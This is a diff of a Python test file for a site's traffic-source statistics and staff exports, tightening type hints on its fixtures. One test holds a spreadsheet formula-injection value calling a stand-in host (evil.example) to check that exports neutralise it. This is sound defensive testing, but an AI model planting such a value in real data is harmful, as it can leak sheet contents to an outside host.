@@ -17,13 +17,15 @@ from modules.accounts import api as accounts_api
 from modules.accounts.contracts import TrafficSource
 from modules.accounts.identity.queries.statistics import SHARED_BY
 from modules.moderation.contracts.staff import Role
+from modules.sites.contracts import Site
 from tests.factories import accounts
 from tests.factories.billing import buy_credits
 from tests.factories.sites import make_site
+from tests.fixture_types import LogIn, MakeColleague, MakeMember, Transaction
 from tests.moderation.test_figures import Browser, numbers, path
 
 
-def make_known(db: Any, *networks: str) -> None:
+def make_known(db: Transaction, *networks: str) -> None:
     """Let so many come from these sources to another site that figures name them."""
     with db() as session:
         other = make_site(session)
@@ -31,7 +33,7 @@ def make_known(db: Any, *networks: str) -> None:
             accounts.make_member(session, site=other, traffic_source=TrafficSource(network=network))
 
 
-def test_the_source_of_a_member_is_told_apart(db: Any, site: Any, make_member: Any) -> None:
+def test_the_source_of_a_member_is_told_apart(db: Transaction, site: Site, make_member: MakeMember) -> None:
     make_known(db, "gazette")
     make_member(traffic_source=TrafficSource(network="gazette"))
     make_member()
@@ -41,7 +43,9 @@ def test_the_source_of_a_member_is_told_apart(db: Any, site: Any, make_member: A
 
 
 @pytest.mark.spec("4.2")
-def test_a_source_that_few_share_is_not_told(db: Any, site: Any, make_member: Any, login: Any) -> None:
+def test_a_source_that_few_share_is_not_told(
+    db: Transaction, site: Site, make_member: MakeMember, login: LogIn
+) -> None:
     """Anybody can sign up with their name as the source, and what was counted outlives them."""
     come = {"traffic_source": TrafficSource(network=f"robin-{uuid4().hex}")}
     for _ in range(SHARED_BY - 1):
@@ -56,7 +60,7 @@ def test_a_source_that_few_share_is_not_told(db: Any, site: Any, make_member: An
 
 
 @pytest.mark.spec("4.2")
-def test_an_address_is_no_source_however_many_share_it(db: Any, site: Any) -> None:
+def test_an_address_is_no_source_however_many_share_it(db: Transaction, site: Site) -> None:
     address = f"robin-{uuid4().hex}@example.org"
     with db() as session:
         for _ in range(SHARED_BY):
@@ -67,7 +71,7 @@ def test_an_address_is_no_source_however_many_share_it(db: Any, site: Any) -> No
 
 @pytest.mark.spec("10.4")
 def test_figures_are_split_by_site_and_by_source(
-    db: Any, site: Any, make_member: Any, colleague: Any, staff_browser: Browser
+    db: Transaction, site: Site, make_member: MakeMember, colleague: MakeColleague, staff_browser: Browser
 ) -> None:
     make_known(db, "gazette", "radio")
     for network in ("gazette", "gazette", "radio", None):
@@ -90,7 +94,7 @@ def test_figures_are_split_by_site_and_by_source(
 
 @pytest.mark.spec("7.1", "10.4")
 def test_a_rate_is_split_over_the_days_on_which_it_is_known(
-    db: Any, site: Any, make_member: Any, colleague: Any, staff_browser: Browser
+    db: Transaction, site: Site, make_member: MakeMember, colleague: MakeColleague, staff_browser: Browser
 ) -> None:
     make_known(db, "gazette", "radio")
     then = datetime.combine(clock.today() - timedelta(days=14), time.max, UTC)
@@ -116,7 +120,7 @@ def test_a_rate_is_split_over_the_days_on_which_it_is_known(
 
 @pytest.mark.spec("10.4")
 def test_a_source_that_strangers_chose_is_no_formula_in_the_table(
-    db: Any, make_member: Any, colleague: Any, staff_browser: Browser, site: Any
+    db: Transaction, make_member: MakeMember, colleague: MakeColleague, staff_browser: Browser, site: Site
 ) -> None:
     chosen = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "x;=1+1")
     make_known(db, *chosen)
@@ -131,7 +135,12 @@ def test_a_source_that_strangers_chose_is_no_formula_in_the_table(
 
 
 def test_the_table_is_read_in_pieces(
-    db: Any, make_member: Any, colleague: Any, staff_browser: Browser, site: Any, monkeypatch: pytest.MonkeyPatch
+    db: Transaction,
+    make_member: MakeMember,
+    colleague: MakeColleague,
+    staff_browser: Browser,
+    site: Site,
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     """What is read whole has no cursor in the database, and takes as much memory as it is long."""
     cursors, list_sums = [], figures.list_sums
@@ -150,7 +159,7 @@ def test_the_table_is_read_in_pieces(
 
 @pytest.mark.spec("10.4")
 def test_whoever_takes_the_figures_away_shows_who_they_are_and_is_written_down(
-    db: Any, colleague: Any, staff_browser: Browser
+    db: Transaction, colleague: MakeColleague, staff_browser: Browser
 ) -> None:
     admin = colleague(Role.ADMIN)
     browser = staff_browser(admin)
